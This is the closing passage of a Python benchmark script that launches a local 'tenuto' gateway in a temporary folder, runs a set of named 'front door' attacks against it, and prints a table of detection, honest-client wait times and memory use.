    parser.add_argument("--honest", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.honest is not None:
        be_honest(args.honest)
        return
    heading("attacks on the front door")
    print("| attack | told | honest client's longest wait (without) | memory |\n|---|---|---|---|")
    with tempfile.TemporaryDirectory(prefix="tenuto-", ignore_cleanup_errors=True) as name:
        folder = Path(name)
        with served(args.tenuto, folder) as gateway:
            for what, attack in attacks(gateway, args.tenuto, folder):
                if args.only in what:
                    rows: tuple[Any, ...] = (what, *gateway.told(attack))
                    print("| " + " | ".join(rows) + " |", flush=True)


if __name__ == "__main__":
    main()
